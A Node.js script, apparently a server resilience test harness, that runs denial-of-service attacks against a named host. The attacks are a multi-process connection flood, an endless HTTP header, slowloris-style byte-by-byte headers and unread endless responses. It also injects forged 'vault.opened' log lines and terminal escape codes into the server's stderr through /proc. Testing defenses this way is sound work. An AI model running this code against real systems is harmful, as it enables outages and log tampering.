// The twin of `flood.py`, from Node: the same arguments and output.
import { spawn } from 'node:child_process';
import { closeSync, openSync, writeSync } from 'node:fs';
import { lookup } from 'node:dns/promises';
import { once } from 'node:events';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const [what, listed, most] = process.argv.slice(2);
const [PROCESSES, EACH, TOLD_MIN] = [10, 1_000, 3];
// Once: names are a flood of their own.
const { address } = await lookup(listed);
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
const say = (value) => process.stdout.write(`${JSON.stringify(value)}\n`);

/** Many connections at once; tells again and again how many are open. */
async function hold() {
  let open = 0;
  for (let index = 0; index < EACH; index += 1) {
    const socket = connect(443, address);
    socket.on('error', () => undefined).resume();
    socket.once('connect', () => {
      open += 1;
      socket.once('close', () => (open -= 1));
    });
  }
  // Not waited for: when the listener's queue is full, the kernel tries again for a minute.
  for (;;) {
    await sleep(200);
    say(open);
  }
}

/** Until no more than it may have are left, or for some seconds after the first told it. */
async function connections() {
  const children = Array.from({ length: PROCESSES }, () =>
    spawn(process.execPath, [...process.argv.slice(1, 2), 'hold', listed, most], {
      stdio: ['ignore', 'pipe', 'ignore'],
    }),
  );
  const open = new Map();
  const told = new Map(children.map((child) => [child, 0]));
  let left = Infinity;
  let late;
  await new Promise((done) => {
    for (const child of children) {
      child.stdout.on('data', (bytes) => {
        open.set(child, Number(String(bytes).trim().split('\n').at(-1)));
        left = [...open.values()].reduce((sum, one) => sum + one, 0);
        told.set(child, told.get(child) + 1);
        late ??= setTimeout(done, 3_000);
        // What they tell first may be from before any was made; some may not be able to tell anything.
        if (left <= Number(most) && [...told.values()].every((times) => times >= TOLD_MIN)) done();
      });
    }
  });
  for (const child of children) child.kill('SIGKILL');
  return { made: PROCESSES * EACH, left };
}

async function secure() {
  const socket = connectTls({ host: address, port: 443, servername: listed });
  socket.on('error', () => undefined);
  await new Promise((done) => socket.once('secureConnect', done).once('close', done));
  return socket;
}

/** One that does not end. */
async function header() {
  const socket = await secure();
  let sent = 0;
  let cut = false;
  socket.once('close', () => (cut = true));
  socket.write(`GET / HTTP/1.1\r\nHost: ${listed}\r\nX-Long: `);
  const piece = Buffer.alloc(65_536, 'a');
  while (!cut && sent < 200_000_000) {
    sent += piece.length;
    if (!socket.write(piece)) await new Promise((done) => socket.once('drain', done).once('close', done));
    socket.removeAllListeners('drain');
  }
  return { sent, cut };
}

async function ask(path) {
  const socket = await secure();
  socket.write(`GET ${path} HTTP/1.1\r\nHost: ${listed}\r\n\r\n`);
  const [bytes] = await once(socket, 'data');
  return Number(String(bytes).split(' ')[1]);
}

/** Headers that come byte by byte, on many connections. */
async function slow() {
  const kept = [];
  for (let index = 0; index < 200; index += 1) kept.push(await secure());
  for (const byte of 'GET / HT') for (const socket of kept) socket.write(byte);
  const status = await ask('/');
  return { open: kept.filter(({ destroyed }) => !destroyed).length, status };
}

/** Answers without end, which nobody reads. */
async function unread() {
  const kept = [];
  for (let index = 0; index < 64; index += 1) {
    const socket = await secure();
    socket.pause();
    socket.write(`GET /endless HTTP/1.1\r\nHost: ${listed}\r\n\r\n`);
    kept.push(socket);
  }
  await sleep(1_000);
  return { open: kept.length };
}

/** Through the descriptor of the server itself. */
function stderr() {
  const lines = Buffer.from('{"level":30,"msg":"vault.opened"}\u001b[2J\n'.repeat(1_000));
  const log = openSync(`/proc/${process.ppid}/fd/2`, 'w');
  let sent = 0;
  while (sent < 8_000_000) sent += writeSync(log, lines);
  closeSync(log);
  return { sent };
}

say(await { connections, header, hold, slow, stderr, unread }[what]());
process.exit();
